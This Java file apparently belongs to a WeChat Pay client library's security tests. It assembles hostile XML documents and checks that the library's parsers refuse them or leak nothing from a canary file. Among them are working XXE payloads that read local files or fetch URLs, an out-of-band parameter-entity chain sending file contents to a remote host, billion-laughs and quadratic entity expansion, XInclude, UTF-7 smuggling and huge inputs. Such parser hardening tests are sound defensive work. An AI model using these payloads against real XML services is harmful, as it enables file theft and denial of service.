package io.github.wxpay;

import com.fasterxml.jackson.databind.JsonNode;
import io.github.wxpay.codec.Transformer;
import io.github.wxpay.exception.MalformedException;
import io.github.wxpay.exception.ResultException;
import io.github.wxpay.exception.VerificationException;
import io.github.wxpay.testing.Clients;
import io.github.wxpay.testing.FakeHttpClient;
import io.github.wxpay.testing.Reply;
import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.function.Supplier;

/**
 * XML that means harm, and a program that reads it in every way there is: {@code main} is run in a
 * JVM of its own with little memory, and prints a line for each document and way.
 */
final class HostileXml {
  private static final int RUNS = 3;
  private static final String SECRET = "exposed_your_key_here_have_risks";

  private final String canary;
  private final String url;
  private final Map<String, Document> documents = new LinkedHashMap<>();

  /**
   * All documents.
   *
   * @param file a file that nobody must read
   * @param url where nobody must connect to
   */
  HostileXml(Path file, String url) {
    this.canary = file.toUri().toString();
    this.url = url;
    entities();
    documentTypes();
    references();
    sizes();
    repetitions();
    encodings();
    fragments();
  }

  Map<String, Document> documents() {
    return documents;
  }

  /** Reads every document in every way: {@code main(canary file, its text, url)}. */
  public static void main(String[] args) {
    HostileXml hostile = new HostileXml(Path.of(args[0]), args[2]);
    List<Way> ways =
        List.of(
            new Way("answer", reply -> called("pay/orderquery", reply)),
            new Way("toObject", reply -> Transformer.toObject(utf8(reply))),
            new Way("toMessage", reply -> Transformer.toMessage(utf8(reply))),
            new Way("file", HostileXml::file));
    for (int i = 0; i < 50; i++) { // warms up: first what is small
      for (Document document : hostile.documents.values()) {
        if (document.small) {
          Reply reply = document.reply();
          ways.forEach(way -> way.outcome(reply, args[1]));
        }
      }
    }
    int rounds = Boolean.getBoolean("nightly") ? 2 : 1; // the last is reported
    for (int round = 1; round <= rounds; round++) {
      for (Map.Entry<String, Document> entry : hostile.documents.entrySet()) {
        Reply reply = entry.getValue().reply();
        for (Way way : ways) {
          String line = way.line(entry.getKey(), reply, args[1]);
          if (round == rounds) {
            System.out.println(line);
          }
        }
      }
    }
    System.out.println("done " + Runtime.getRuntime().maxMemory());
  }

  private static Response called(String path, Reply reply) {
    Wxpay wxpay =
        Clients.once()
            .mchid("1900000109")
            .secret(SECRET)
            .httpClient(FakeHttpClient.answering(reply))
            .build();
    return wxpay.v2().chain(path).post(Map.of("mch_id", "1900000109"));
  }

  /** Reads the received file too. */
  private static Object file(Reply reply) {
    JsonNode data = called("pay/downloadbill", reply).data();
    return data.isTextual() ? data.textValue() : data;
  }

  private static String utf8(Reply reply) {
    return new String(reply.body(), StandardCharsets.UTF_8);
  }

  // The documents

  private void entities() {
    dtd("an external entity of a file", "<!ENTITY e SYSTEM '" + canary + "'>", "&e;");
    dtd("an external entity of a URL", "<!ENTITY e SYSTEM '" + url + "/e'>", "&e;");
    dtd("a public external entity", "<!ENTITY e PUBLIC '-//X' '" + url + "/p'>", "&e;");
    dtd(
        "a parameter entity that sends a file away",
        "<!ENTITY % f SYSTEM '"
            + canary
            + "'><!ENTITY % d SYSTEM '"
            + url
            + "/evil.dtd'>%d;<!ENTITY % s \"<!ENTITY &#37; t SYSTEM '"
            + url
            + "/?%f;'>\">%s;%t;",
        "1");
    dtd("a parameter entity of a URL", "<!ENTITY % e SYSTEM '" + url + "/x.dtd'> %e;", "1");
    dtd("a parameter entity of a file", "<!ENTITY % e SYSTEM '" + canary + "'> %e;", "1");
    dtd("an entity within", "<!ENTITY e 'SUCCESS'>", "&e;");
    dtd("an entity of itself", "<!ENTITY e '&f;'><!ENTITY f '&e;'>", "&e;");
    StringBuilder laughs = new StringBuilder("<!ENTITY l0 'lol'>");
    for (int i = 1; i < 12; i++) {
      laughs.append("<!ENTITY l").append(i).append(" '").append(("&l" + (i - 1) + ";").repeat(10));
      laughs.append("'>");
    }
    dtd("a billion laughs", laughs.toString(), "&l11;");
    dtd(
        "laughs by parameter entities",
        "<!ENTITY % a 'x'><!ENTITY % b '%a;%a;'><!ENTITY % c '%b;%b;'>%c;",
        "1");
    dtd("a quadratic blow-up", "<!ENTITY e '" + "x".repeat(50_000) + "'>", "&e;".repeat(50_000));
    dtd(
        "an entity in an attribute's default",
        "<!ENTITY e SYSTEM '"
            + canary
            + "'><!ELEMENT a ANY><!ATTLIST a b CDATA '&e;' c ENTITY #IMPLIED>",
        "1");
    dtd(
        "an unparsed entity",
        "<!NOTATION n SYSTEM '" + url + "'><!ENTITY e SYSTEM '" + url + "/u' NDATA n>",
        "1");
  }

  private void documentTypes() {
    refused("an external DTD of a URL", "<!DOCTYPE xml SYSTEM '" + url + "/d'>" + plain());
    refused("an external DTD of a file", "<!DOCTYPE xml SYSTEM '" + canary + "'>" + plain());
    refused("a public DTD", "<!DOCTYPE xml PUBLIC '-//W3C' '" + url + "/d'>" + plain());
    refused("a bare document type", "<!DOCTYPE xml>" + plain());
    refused("a document type after a comment", "<!-- a --><!-- > -->\n" + external());
    refused("a document type after an instruction", "<?a b?><?c?>\n\n" + external());
    refused(
        "a document type after a declaration and blanks",
        "\ufeff\u00a0 <?xml version='1.0' standalone='no'?>\r\n<!-- <!DOCTYPE a> -->" + external());
    refused("a document type after a line separator", "<?a?>\u2028" + external());
    refused("a document type after the root", plain() + external());
    refused("a document type within the root", "<xml>" + external() + "</xml>");
    refused("a document type in small letters", "<!doctype xml SYSTEM '" + url + "'>" + plain());
    refused("a document type that does not end", "<!DOCTYPE xml [" + "<!--".repeat(1_000));
    refused(
        "comments without end before a document type", "<!-- x -->".repeat(90_000) + external());
    refused("instructions that open comments", "<?<!--?>".repeat(90_000) + external());
    refused("a document type of 900 kB", "<!DOCTYPE xml [" + " ".repeat(900_000) + "]>" + plain());
  }

  private void references() {
    refused("an undeclared entity", "<xml><a>&unknown;</a></xml>");
    refused("an undeclared entity in an attribute", "<xml><a b='&unknown;'>1</a></xml>");
    refused("an entity of HTML", "<xml><a>&nbsp;</a></xml>");
    refused("a reference to no character", "<xml><a>&#0;</a></xml>");
    refused("a reference to half a pair", "<xml><a>&#xD800;</a></xml>");
    refused("a reference beyond Unicode", "<xml><a>&#99999999999;</a></xml>");
    String include = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='";
    read("an inclusion of a file", "<xml><a>" + include + canary + "'/></a></xml>");
    read("an inclusion of a URL", "<xml><a>" + include + url + "/i'/></a></xml>");
    read("a style sheet", "<?xml-stylesheet type='text/xsl' href='" + url + "/s'?>" + plain());
    read(
        "a schema",
        "<xml xmlns='"
            + url
            + "/n' xmlns:x='http://www.w3.org/2001/XMLSchema-instance' x:schemaLocation='"
            + url
            + "/n "
            + url
            + "/s.xsd' xml:base='"
            + canary
            + "'><return_code>SUCCESS</return_code></xml>");
  }

  private void sizes() {
    large("20,000 deep", () -> "<a>".repeat(20_000) + "</a>".repeat(20_000));
    refused("5 deep", "<xml><a><b><c><d/></c></b></a></xml>");
    large("a million attributes", () -> "<xml" + numbered(1_000_000, " a%d='1'") + "/>");
    large("80,000 attributes", () -> "<xml" + numbered(80_000, " a%d='1'") + "/>");
    large("an attribute of 900 kB", () -> "<xml a='" + "&lt;".repeat(225_000) + "'><a</xml>");
    large("10 MB of text", () -> "<xml><a>" + "x".repeat(10 << 20) + "</a></xml>");
    large("10 MB of blanks", () -> "<xml><a>x" + " ".repeat(10 << 20) + "x</a></xml>");
    unread("10 MB without a tag", () -> "x".repeat(10 << 20));
    unread("10 MB of lines", () -> "\r\n x".repeat(5 << 19));
    large(
        "900 kB of blanks in a text", () -> "<xml><a>x" + " ".repeat(900_000) + "x</a><a/></xml>");
    large("900 kB of blanks, no end", () -> "<xml>" + "\n".repeat(900_000) + "<");
    large("a name of 900 kB", () -> "<" + "x".repeat(900_000));
    large("100,000 fields", () -> "<xml>" + numbered(100_000, "<a%d/>") + "</xml>");
    large(
        "90,000 numeric references", () -> "<xml><a>" + "&#65;".repeat(90_000) + "</a><a/></xml>");
    large("225,000 named references", () -> "<xml><a>" + "&lt;".repeat(225_000) + "</a><a/></xml>");
    large(
        "70,000 empty sections", () -> "<xml>" + "<![CDATA[]]>".repeat(70_000) + "<a/><a/></xml>");
    large("opened sections", () -> "<xml><a>" + "<![CDATA[".repeat(100_000) + "</a></xml>");
    large("90,000 comments", () -> "<xml>" + "<!-- -->".repeat(90_000) + "<a/><a/></xml>");
    large("90,000 instructions", () -> "<xml>" + "<?a b?>".repeat(90_000) + "<a/><a/></xml>");
    large("a comment of dashes", () -> "<!--" + "- ".repeat(450_000));
    large("900 kB of brackets", () -> "<xml>" + "<".repeat(900_000));
    large("900 kB of closing brackets", () -> "<xml><a><![CDATA[" + "]".repeat(900_000));
  }

  private void repetitions() {
    refused("a field twice", "<xml><a>1</a><a>2</a></xml>");
    refused("a field in a section twice", "<xml><a><![CDATA[1]]></a><b/><a><b/></a></xml>");
    refused("an attribute twice", "<xml a='1' a='2'/>");
    refused("two roots", plain() + plain());
    refused("text after the root", plain() + "x");
  }

  private void encodings() {
    String utf16 = "<?xml version='1.0' encoding='UTF-16'?>" + external();
    raw("UTF-16 with a mark", utf16.getBytes(StandardCharsets.UTF_16), true);
    raw("UTF-16, little end first", utf16.getBytes(StandardCharsets.UTF_16LE), true);
    raw("UTF-32", utf16.getBytes(Charset.forName("UTF-32BE")), true);
    raw("EBCDIC", utf16.getBytes(Charset.forName("IBM037")), false);
    refused(
        "UTF-7",
        "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE xml SYSTEM +ACI-"
            + url
            + "+ACIAPg-<xml>");
    read("an encoding that does not exist", "<?xml version='1.0' encoding='no-such'?>" + plain());
    read("another encoding than is", "<?xml version='1.0' encoding='UTF-16'?>" + plain());
    raw("a NUL", "<xml><a>\0</a></xml>".getBytes(StandardCharsets.UTF_8), true);
    raw("a NUL before all", ("\0" + plain()).getBytes(StandardCharsets.UTF_8), true);
    refused("a control character", "<?xml version='1.1'?><xml><a>\u0001</a></xml>");
    refused("a character that is none", "<xml><a>\uffff</a></xml>");
    raw(
        "an overlong tag",
        joined("<xml><a>".getBytes(StandardCharsets.UTF_8), bytes(0xc0, 0xbc, '!'), "<b</xml>"),
        true);
    raw(
        "half of UTF-8",
        joined("<xml><a>".getBytes(StandardCharsets.UTF_8), bytes(0xf0, 0x9f), "</a><a/></xml>"),
        true);
  }

  private void fragments() {
    refused("an open root", "<xml><return_code>SUCCESS</return_code>");
    refused("an open field", "<xml><a>1</xml>");
    refused("an open section", "<xml><a><![CDATA[1</a></xml>");
    refused("an open comment", "<xml><!-- </xml>");
    refused("an open instruction", "<xml><?a </xml>");
    refused("an open tag", "<xml><a b='1</a></xml>");
    refused("crossed tags", "<xml><a><b></a></b></xml>");
    refused("only a declaration", "<?xml version='1.0'?>");
    refused("a declaration twice", "<?xml version='1.0'?><?xml version='1.0'?>" + plain());
    refused("a bare bracket", "<");
    refused("an attribute without a value", "<xml a>1</xml>");
    refused("a section's end in a text", "<xml><a>]]></a></xml>");
    refused("a version that is none", "<?xml version='9.9'?>" + plain());
    refused("a section around a document type", "<![CDATA[" + external() + "]]>");
  }

  private String plain() {
    return "<xml><return_code>SUCCESS</return_code></xml>";
  }

  private String external() {
    return "<!DOCTYPE xml SYSTEM '" + url + "/external'>" + plain();
  }

  private void dtd(String name, String subset, String value) {
    refused(
        name,
        "<?xml version='1.0'?><!DOCTYPE xml ["
            + subset
            + "]><xml><return_code>"
            + value
            + "</return_code></xml>");
  }

  private void refused(String name, String xml) {
    raw(name, xml.getBytes(StandardCharsets.UTF_8), true);
  }

  /** Harmless as far as it goes, so read; but nothing it names may be fetched. */
  private void read(String name, String xml) {
    raw(name, xml.getBytes(StandardCharsets.UTF_8), false);
  }

  private void raw(String name, byte[] bytes, boolean refused) {
    put(name, new Document(() -> bytes, refused, bytes.length < 10_000));
  }

  private void large(String name, Supplier<String> xml) {
    put(name, new Document(() -> xml.get().getBytes(StandardCharsets.UTF_8), true, false));
  }

  private void unread(String name, Supplier<String> text) {
    put(name, new Document(() -> text.get().getBytes(StandardCharsets.UTF_8), false, false));
  }

  private void put(String name, Document document) {
    if (documents.put(name, document) != null) {
      throw new IllegalStateException(name + " stands there twice");
    }
  }

  private static String numbered(int count, String format) {
    String[] around = format.split("%d", -1);
    StringBuilder out = new StringBuilder(count * (format.length() + 4));
    for (int i = 0; i < count; i++) {
      out.append(around[0]).append(i).append(around[1]);
    }
    return out.toString();
  }

  private static byte[] bytes(int... values) {
    byte[] out = new byte[values.length];
    for (int i = 0; i < values.length; i++) {
      out[i] = (byte) values[i];
    }
    return out;
  }

  private static byte[] joined(byte[] first, byte[] second, String third) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(first);
    out.writeBytes(second);
    out.writeBytes(third.getBytes(StandardCharsets.UTF_8));
    return out.toByteArray();
  }

  /** One document, created on demand, so that they are not all in memory at once. */
  static final class Document {
    final Supplier<byte[]> bytes;
    final boolean refused;
    final boolean small;

    Document(Supplier<byte[]> bytes, boolean refused, boolean small) {
      this.bytes = bytes;
      this.refused = refused;
      this.small = small;
    }

    Reply reply() {
      return Reply.bare(200, "").withBody(bytes.get());
    }
  }

  /** A way to read, its time and its outcome. */
  private static final class Way {
    private final String name;
    private final Function<Reply, Object> work;

    Way(String name, Function<Reply, Object> work) {
      this.name = name;
      this.work = work;
    }

    String line(String document, Reply reply, String secret) {
      long[] times = new long[RUNS];
      List<String> outcomes = new ArrayList<>();
      for (int i = 0; i < RUNS; i++) {
        long start = System.nanoTime();
        String outcome = outcome(reply, secret);
        times[i] = System.nanoTime() - start;
        if (!outcomes.contains(outcome)) {
          outcomes.add(outcome);
        }
      }
      Arrays.sort(times);
      return String.join(
          "|",
          document,
          name,
          String.join("+", outcomes),
          Long.toString(times[0] / 1_000),
          Long.toString(times[RUNS / 2] / 1_000));
    }

    /** Outcome of reading a document: {@code refused}, {@code read}, or what must not be. */
    String outcome(Reply reply, String secret) {
      try {
        Object result = work.apply(reply);
        return leaks(String.valueOf(result), secret) ? "LEAK" : "read";
      } catch (MalformedException | VerificationException | ResultException e) {
        for (Throwable at = e; at != null; at = at.getCause()) {
          String message = String.valueOf(at.getMessage());
          if (leaks(message, secret) || message.length() > 1_000) {
            return "LEAK";
          }
        }
        return "refused";
      } catch (RuntimeException | StackOverflowError | OutOfMemoryError e) {
        return e.getClass().getName();
      }
    }

    private static boolean leaks(String text, String secret) {
      return text.contains(secret);
    }
  }
}
